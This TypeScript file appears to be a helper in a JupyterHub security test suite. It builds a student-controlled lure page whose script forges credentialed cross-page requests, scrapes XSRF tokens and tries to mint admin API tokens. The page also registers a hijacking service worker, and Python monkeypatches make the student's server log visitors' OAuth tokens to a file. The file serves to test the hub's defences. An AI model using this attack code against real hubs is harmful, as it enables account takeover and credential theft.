import type { BrowserContext, Page } from "playwright-core";
import { askWithToken } from "../support/browser.ts";
import type { SignedIn } from "../support/signed-in.ts";

/** The ways in which a page can read another page of its origin. */
export const READERS = ["fetch", "iframe", "popup", "popup with COOP"] as const;
export type Reader = (typeof READERS)[number];

/** A request for a token that a script has made. */
export interface Asked {
  readonly what: string;
  readonly status: number;
  readonly text: string;
}

const CONFIG = "/home/jovyan/.jupyter/jupyter_server_config.py";
const TOKENS = "/home/jovyan/tokens.txt";

/**
 * A student's server that shows one of the student's pages to anyone who opens a link to it.
 *
 * JupyterLab's own `/files/` does not work for this: it shows pages in a sandbox, which gives them an origin of their own. But the student
 * writes the configuration of the server, and so its answers. This page does not even ask who its visitor is.
 */
export class AttackPage {
  readonly #student: SignedIn;

  private constructor(student: SignedIn) {
    this.#student = student;
  }

  /** The page of a running server, at another address of the hub. */
  static of(student: SignedIn): AttackPage {
    return new AttackPage(student);
  }

  /** @param admin - Whose token the script wants. */
  static async on(student: SignedIn, admin: string): Promise<AttackPage> {
    const notebook = await student.notebook();
    const words = { page: pageOf(student.place, student.name, admin), tokens: TOKENS };
    await notebook.run(`import os
os.makedirs(os.path.dirname("${CONFIG}"), exist_ok=True)
open("${CONFIG}", "w").write("WORDS = " + ${JSON.stringify(JSON.stringify(words))} + ${JSON.stringify(SERVES)})`);
    await student.stopServer();
    await student.startServer();
    return new AttackPage(student);
  }

  get #place(): string {
    return `${this.#student.place}/user/${this.#student.name}`;
  }

  /** Opens the link, as an admin to whom it was sent. */
  async visit(context: BrowserContext, reader: Reader = "fetch"): Promise<Page> {
    const page = await context.newPage();
    const answer = await page.goto(
      `${this.#student.browser.origin}${this.#place}/mine${reader === "popup with COOP" ? "?coop" : ""}`,
    );
    if (answer?.status() !== 200) throw new Error(`The student's page answers ${answer?.status()}`);
    return page;
  }

  /** What the script reads in one of the ways of a page of the hub that the visitor may see; empty where nothing. */
  async reads(context: BrowserContext, reader: Reader, path: string): Promise<string> {
    const page = await this.visit(context, reader);
    const asked = `${this.#student.place}${path}`;
    if (reader === "fetch" || reader === "iframe") return page.evaluate(call(reader, asked));
    const opened = context.waitForEvent("page");
    await page.evaluate(call("open", asked));
    const popup = await opened;
    await popup.waitForURL((url) => url.pathname === asked.split("?")[0]);
    await popup.waitForLoadState();
    return page.evaluate(call("look"));
  }

  /** Every request for an admin's token that the script can make. */
  async asksForTokens(context: BrowserContext): Promise<readonly Asked[]> {
    const page = await this.visit(context);
    return page.evaluate(call("tokens"));
  }

  /**
   * Has the browser run a script of the student's between its pages and the hub, from now on.
   *
   * @returns what the browser says: `"registered"`, or why not.
   */
  async takesOverHub(context: BrowserContext): Promise<string> {
    const page = await this.visit(context);
    return page.evaluate(call("worker"));
  }

  /** The tokens of visitors that the server was given by the hub, which the student can read. */
  async tokensOfVisitors(): Promise<readonly string[]> {
    const notebook = await this.#student.notebook();
    return (await notebook.read(TOKENS.replace("/home/jovyan/", ""))).trim().split("\n");
  }
}

/** What a token may do, according to the hub. */
export async function scopesOf(hub: string, token: string): Promise<readonly string[]> {
  const { text } = await askWithToken(`${hub}/api/user`, token);
  return (JSON.parse(text) as { readonly scopes: readonly string[] }).scopes.toSorted();
}

function call(name: string, ...words: readonly string[]): string {
  return `${name}_(${words.map((word) => JSON.stringify(word)).join(", ")})`;
}

/** What a student can put on a page. `%TOKEN%` becomes the token that the hub gave to the student's own server. */
const pageOf = (place: string, student: string, admin: string) => `<!doctype html>
<title>My notebook</title>
<p>Please have a look.</p>
<script>
  const place = ${JSON.stringify(place)};
  const referrer = location.origin + place + "/hub/home";
  const forged = { referrer, referrerPolicy: "unsafe-url", credentials: "include" };
  let opened;

  async function xsrf_() {
    const home = await (await fetch(place + "/hub/home", forged)).text();
    return /xsrf_token: "([^"]+)"/.exec(home)[1];
  }

  async function fetch_(path) {
    const _xsrf = await xsrf_();
    const form = new URLSearchParams({ _xsrf, format: new URL(path, location).searchParams.get("format") || "" });
    const tries = [
      {},
      { mode: "same-origin" },
      { headers: { "X-XSRFToken": _xsrf } },
      { headers: { Authorization: "token %TOKEN%" } },
      { method: "POST", body: form },
      { method: "POST", body: new URLSearchParams([...form, ["password", ""]]) },
      { method: "POST", body: new URLSearchParams([...form, ["password", "guess"]]) },
    ];
    let read = "";
    for (const one of tries) read += await (await fetch(path, { ...forged, ...one })).text();
    return read;
  }

  async function iframe_(path) {
    const frame = document.createElement("iframe");
    const loaded = new Promise((resolve) => (frame.onload = frame.onerror = resolve));
    frame.src = path;
    document.body.append(frame);
    await loaded;
    return textOf(() => frame.contentDocument);
  }

  function open_(path) {
    opened = window.open(path);
  }

  function look_() {
    return textOf(() => opened.document);
  }

  function textOf(documentOf) {
    try {
      return documentOf().body.innerText;
    } catch {
      // Another origin, or a window that is out of reach.
      return "";
    }
  }

  async function worker_() {
    try {
      const scope = place + "/hub/";
      const worker = await navigator.serviceWorker.register(location.pathname.replace(/mine$/, "worker"), { scope });
      const begun = worker.installing || worker.waiting || worker.active;
      if (begun.state !== "activated")
        await new Promise((resolve) => begun.addEventListener("statechange", () => begun.state === "activated" && resolve()));
      return "registered";
    } catch (error) {
      return String(error);
    }
  }

  async function tokens_() {
    const _xsrf = await xsrf_();
    const asked = [];
    for (const owner of [${JSON.stringify(admin)}, ${JSON.stringify(student)}]) {
      for (const [what, body, headers] of [
        ["the session", {}],
        ["an empty password", { password: "" }],
        ["a wrong password", { password: "guess" }],
        ["a name in the body", { auth: { username: ${JSON.stringify(admin)} } }],
        ["a token that does not exist", {}, { Authorization: "token made-up" }],
        ["the token of the student's server", {}, { Authorization: "token %TOKEN%" }],
      ]) {
        const answer = await fetch(place + "/hub/api/users/" + owner + "/tokens?_xsrf=" + encodeURIComponent(_xsrf), {
          ...forged,
          method: "POST",
          headers: { "Content-Type": "application/json", ...headers },
          body: JSON.stringify(body),
        });
        asked.push({ what: what + " for " + owner, status: answer.status, text: await answer.text() });
      }
    }
    return asked;
  }
</script>
`;

/** It knows what a student knows. */
const SERVES = `
import os
from jupyterhub.services.auth import HubOAuth
from tornado import web

class Worker(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish("""
            addEventListener("fetch", (event) => {
                if (event.request.mode === "navigate")
                    event.respondWith(new Response("<title>Not the hub</title>", { headers: { "Content-Type": "text/html" } }));
            });
        """)

class Mine(web.RequestHandler):
    def get(self):
        if self.request.query == "coop":
            self.set_header("Cross-Origin-Opener-Policy", "same-origin")
        self.finish(WORDS["page"].replace("%TOKEN%", os.environ["JUPYTERHUB_API_TOKEN"]))

find_handler = web.Application.find_handler

def serve(self, request, **given):
    for name, handler in (("mine", Mine), ("worker", Worker)):
        if request.path.endswith("/" + name):
            return self.get_handler_delegate(request, handler)
    return find_handler(self, request, **given)

web.Application.find_handler = serve
set_cookie = HubOAuth.set_cookie

def keep(self, handler, access_token):
    with open(WORDS["tokens"], "a") as file:
        file.write(access_token + "\\n")
    return set_cookie(self, handler, access_token)

HubOAuth.set_cookie = keep
`;
